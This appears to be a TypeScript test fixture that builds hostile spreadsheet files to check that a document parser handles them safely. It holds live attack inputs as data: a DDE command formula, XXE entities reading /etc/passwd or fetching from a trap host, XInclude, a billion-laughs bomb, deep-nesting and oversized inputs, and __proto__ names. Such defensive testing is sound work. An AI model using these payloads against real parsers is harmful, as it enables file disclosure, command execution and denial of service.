import { aZip } from "../support/a-zip.ts";
import { anXlsx, sheetData, type XlsxSheetSpec } from "../support/an-xlsx.ts";
import { oleOf } from "../support/doc-file.ts";
import { escaped } from "../support/word-markup.ts";
import { goodRows, type HostileFile, noTable, read, readWithout, refused, trap, utf8 } from "./hostile-file.ts";

const rows = (change: (cell: string) => string = (cell) => cell) =>
  goodRows.map((row) => row.map((cell) => change(escaped(cell))));
const good = sheetData(rows());
const sheet = (xml: string, more: Partial<XlsxSheetSpec> = {}): XlsxSheetSpec => ({ name: "表", xml, ...more });
const book = (xml: string, more: Partial<XlsxSheetSpec> = {}): Uint8Array => anXlsx({ sheets: [sheet(xml, more)] });
const entities = (declarations: string, body: string): Uint8Array =>
  aZip([
    { name: "[Content_Types].xml", content: "<Types/>" },
    {
      name: "xl/workbook.xml",
      content: `<?xml version="1.0"?><!DOCTYPE w [${declarations}]><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="${body}" sheetId="1"/></sheets></workbook>`,
    },
  ]);

/** Spreadsheets that claim, hide, fetch or compute — 电子表格. */
export const xlsxFiles: readonly HostileFile[] = [
  {
    name: "headers called __proto__, constructor and toString",
    bytes: () => book(sheetData([...rows(), ["__proto__", "constructor", "toString", "hasOwnProperty"]])),
    outcome: read(3, "amount-unreadable"),
  },
  { name: "a sheet called __proto__", bytes: () => book(good, { name: "__proto__" }), outcome: read(2) },
  { name: "two sheets of one name", bytes: () => anXlsx({ sheets: [sheet(good), sheet(good)] }), outcome: read(4) },
  {
    name: "1,000 sheets",
    bytes: () =>
      anXlsx({
        sheets: Array.from({ length: 1_000 }, (_, n) => sheet(n === 0 ? good : sheetData([["x"]]), { name: `表${n}` })),
      }),
    outcome: read(2),
  },
  {
    name: "a shared string of number −1",
    bytes: () =>
      anXlsx({ sheets: [sheet(sheetData([...rows(), ['<c t="s"><v>-1</v></c>']]))], strings: "<si><t>x</t></si>" }),
    outcome: read(2),
  },
  {
    name: "a shared string of number 2³¹",
    bytes: () =>
      anXlsx({
        sheets: [sheet(sheetData([...rows(), ['<c t="s"><v>2147483648</v></c>']]))],
        strings: "<si><t>x</t></si>",
      }),
    outcome: read(2),
  },
  {
    name: "a dimension of 1,048,576 × 16,384",
    bytes: () => book(`<dimension ref="A1:XFD1048576"/>${good}`),
    outcome: read(2),
  },
  {
    name: "a cell in the last row and column there is",
    bytes: () =>
      book(good.replace("</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')),
    outcome: read(2),
  },
  {
    name: "a row of number 2³²",
    bytes: () => book(good.replace("</sheetData>", '<row r="4294967296"><c><v>1</v></c></row></sheetData>')),
    outcome: read(2),
  },
  {
    name: "a column ZZZZZZZ",
    bytes: () => book(good.replace("</sheetData>", '<row r="20"><c r="ZZZZZZZ20"><v>1</v></c></row></sheetData>')),
    outcome: read(2),
  },
  {
    name: "one merged cell over everything",
    bytes: () => book(`${sheetData([["x"]])}<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>`),
    outcome: noTable(),
  },
  {
    name: "100,000 merged cells that overlap",
    bytes: () =>
      book(
        `${good}<mergeCells>${Array.from({ length: 100_000 }, (_, n) => `<mergeCell ref="A${20 + (n % 50)}:Z${40 + (n % 70)}"/>`).join("")}</mergeCells>`,
      ),
    outcome: read(2),
  },
  {
    name: "formulas that call each other",
    bytes: () => book(sheetData([...rows(), ["<c><f>B20</f><v>1</v></c>", "<c><f>A20</f><v>1</v></c>"]])),
    outcome: read(3),
  },
  {
    name: "a formula without a value",
    bytes: () => book(sheetData([...rows(), ["<c><f>SUM(A1:A9)</f></c>"]])),
    outcome: read(2, "formula-without-value"),
  },
  {
    name: "a command in a formula (DDE)",
    bytes: () => book(sheetData([...rows(), ["<c><f>cmd|'/c calc'!A0</f><v>0</v></c>"]])),
    outcome: read(2),
  },
  {
    name: "a formula that fetches a page",
    bytes: () => book(sheetData([...rows(), [`<c><f>WEBSERVICE("${trap}/ws")</f><v>0</v></c>`]])),
    outcome: read(2),
  },
  {
    name: "links to another workbook",
    bytes: () => book(good, { beside: { externalLink: `<externalLink><externalBook r:id="r1"/></externalLink>` } }),
    outcome: read(2),
  },
  {
    name: "a hidden sheet with words nobody sees",
    bytes: () => anXlsx({ sheets: [sheet(good), sheet(sheetData([["藏着的话"]]), { name: "藏", state: "hidden" })] }),
    outcome: { ...readWithout(2, "藏着的话"), notes: ["sheet-hidden"] } as HostileFile["outcome"],
  },
  {
    name: "a very hidden sheet",
    bytes: () =>
      anXlsx({ sheets: [sheet(good), sheet(sheetData([["深藏的话"]]), { name: "深", state: "veryHidden" })] }),
    outcome: { ...readWithout(2, "深藏的话"), notes: ["sheet-hidden"] } as HostileFile["outcome"],
  },
  { name: "all sheets hidden", bytes: () => book(good, { state: "hidden" }), outcome: refused("nothing-inside") },
  {
    name: "numbers that are no numbers",
    bytes: () =>
      book(
        sheetData([...rows(), ["<c><v>NaN</v></c>", "<c><v>1e999</v></c>", "<c><v>--1</v></c>", "<c><v>0x10</v></c>"]]),
      ),
    outcome: read(3, "amount-unreadable"),
  },
  { name: "numbers kept as text", bytes: () => book(sheetData(rows())), outcome: read(2) },
  {
    name: "dates before all time and after it, counted from 1904",
    bytes: () =>
      anXlsx({
        sheets: [sheet(sheetData([...rows(), ['<c s="1"><v>-99999999</v></c>', '<c s="1"><v>99999999999</v></c>']]))],
        workbookPr: '<workbookPr date1904="1"/>',
        styles: '<cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs>',
      }),
    outcome: read(2),
  },
  {
    name: "styles that are not there",
    bytes: () => book(sheetData([...rows(), ['<c s="99"><v>1</v></c>']])),
    outcome: read(2),
  },
  {
    name: "a number format of 100,000 characters",
    bytes: () =>
      anXlsx({
        sheets: [sheet(sheetData([...rows(), ['<c s="1"><v>1</v></c>']]))],
        styles: `<numFmts><numFmt numFmtId="200" formatCode="${"[红色]0;".repeat(14_000)}"/></numFmts><cellXfs><xf numFmtId="0"/><xf numFmtId="200"/></cellXfs>`,
      }),
    outcome: read(2),
  },
  {
    name: "a shared string of 20,000 runs",
    bytes: () =>
      anXlsx({
        sheets: [sheet(sheetData([...rows(), ['<c t="s"><v>0</v></c>']]))],
        strings: `<si>${"<r><t>长</t></r>".repeat(20_000)}</si>`,
      }),
    outcome: read(2),
  },
  { name: "a cell of 1 MB", bytes: () => book(sheetData([...rows(), ["长".repeat(350_000)]])), outcome: read(2) },
  {
    name: "a sheet that its book does not have",
    bytes: () =>
      aZip([
        { name: "[Content_Types].xml", content: "<Types/>" },
        {
          name: "xl/workbook.xml",
          content:
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="none"/></sheets></workbook>',
        },
      ]),
    outcome: refused("damaged"),
  },
  {
    name: "a relation that climbs out of the file",
    bytes: () => book(good, { beside: { comments: "<comments/>" } }),
    outcome: read(2),
  },
  {
    name: "a password",
    bytes: () => oleOf({ EncryptedPackage: new Uint8Array(64), EncryptionInfo: new Uint8Array(64) }),
    outcome: refused("needs-password"),
  },
  {
    name: "a web page named .xlsx",
    bytes: () =>
      utf8(
        `<html><table>${goodRows.map((row) => `<tr>${row.map((cell) => `<td>${escaped(cell)}</td>`).join("")}</tr>`).join("")}</table></html>`,
      ),
    outcome: read(2),
  },
  { name: "its XML cut off", bytes: () => book(good.slice(0, -60)), outcome: read(2) },
  { name: "no part but the list of sheets", bytes: () => entities("", "a"), outcome: refused("damaged") },
  // XML
  {
    name: "XML: an entity of a thousand million laughs",
    bytes: () =>
      entities(
        Array.from({ length: 10 }, (_, n) => `<!ENTITY l${n + 1} "${n === 0 ? "ha" : `&l${n};`.repeat(10)}">`).join(""),
        "&l10;",
      ),
    outcome: refused("damaged"),
  },
  {
    name: "XML: one long entity, 100,000 times",
    bytes: () =>
      book(`<!DOCTYPE x [<!ENTITY a "${"a".repeat(100_000)}">]>${sheetData([...rows(), ["&a;".repeat(100_000)]])}`),
    outcome: read(2),
  },
  {
    name: "XML: an entity that is a file of this machine",
    bytes: () => book(`<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>${sheetData([...rows(), ["&f;"]])}`),
    outcome: read(2),
  },
  {
    name: "XML: an entity that is a page elsewhere",
    bytes: () => book(`<!DOCTYPE x [<!ENTITY f SYSTEM "${trap}/xxe">]>${sheetData([...rows(), ["&f;"]])}`),
    outcome: read(2),
  },
  {
    name: "XML: a parameter entity from elsewhere",
    bytes: () => book(`<!DOCTYPE x [<!ENTITY % p SYSTEM "${trap}/p.dtd"> %p;]>${good}`),
    outcome: read(2),
  },
  {
    name: "XML: an inclusion (XInclude)",
    bytes: () =>
      book(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>${good}`),
    outcome: read(2),
  },
  {
    name: "XML: a style sheet for it from elsewhere",
    bytes: () => book(`<?xml-stylesheet href="${trap}/x.xsl"?>${good}`),
    outcome: read(2),
  },
  {
    name: "XML: 129 elements deep",
    bytes: () => book(`${good}<extLst>${"<a>".repeat(129)}</extLst>`),
    outcome: refused("too-large"),
  },
  {
    name: "XML: a million elements deep",
    bytes: () => book(`${good}<extLst>${"<a>".repeat(1_000_000)}</extLst>`),
    outcome: refused("too-large"),
  },
  {
    name: "XML: 200,000 attributes",
    bytes: () => book(good.replace("<row", `<row ${Array.from({ length: 200_000 }, (_, n) => `a${n}="1"`).join(" ")}`)),
    outcome: read(2),
  },
  {
    name: "XML: an attribute of 10 MB",
    bytes: () => book(good.replace("<row", `<row a="${Array.from({ length: 700_000 }, (_, n) => `长${n}`).join("")}"`)),
    outcome: read(2),
  },
  {
    name: "XML: says UTF-16 and is UTF-8",
    bytes: () => book(`<?xml version="1.0" encoding="UTF-16"?>${good}`),
    outcome: read(2),
  },
  {
    name: "XML: a CDATA section that never ends",
    bytes: () => book(`${good}<![CDATA[${"x".repeat(100_000)}`),
    outcome: read(2),
  },
  {
    name: "SpreadsheetML: index attributes of 2³¹",
    bytes: () =>
      utf8(
        `<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="a"><Table>${goodRows.map((row) => `<Row>${row.map((cell) => `<Cell><Data ss:Type="String">${escaped(cell)}</Data></Cell>`).join("")}</Row>`).join("")}<Row ss:Index="2147483647"><Cell ss:Index="2147483647" ss:MergeAcross="2147483647"><Data ss:Type="String">x</Data></Cell></Row></Table></Worksheet></Workbook>`,
      ),
    outcome: read(2),
  },
  {
    name: "ODS: a cell repeated 2³¹ times",
    bytes: () =>
      ods(
        `<table:table-row table:number-rows-repeated="2147483647"><table:table-cell table:number-columns-repeated="2147483647" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>`,
      ),
    outcome: refused("too-large"),
  },
  {
    name: "ODS: empty rows to the end of the sheet, as every one has",
    bytes: () =>
      ods(
        '<table:table-row table:number-rows-repeated="1048000"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>',
      ),
    outcome: read(2),
  },
];

function ods(more: string): Uint8Array {
  const cells = goodRows
    .map(
      (row) =>
        `<table:table-row>${row.map((cell) => `<table:table-cell office:value-type="string"><text:p>${escaped(cell)}</text:p></table:table-cell>`).join("")}</table:table-row>`,
    )
    .join("");
  const names =
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"';
  return aZip([
    { name: "mimetype", content: "application/vnd.oasis.opendocument.spreadsheet", method: 0 },
    {
      name: "content.xml",
      content: `<office:document-content ${names}><office:body><office:spreadsheet><table:table table:name="a">${cells}${more}</table:table></office:spreadsheet></office:body></office:document-content>`,
    },
  ]);
}
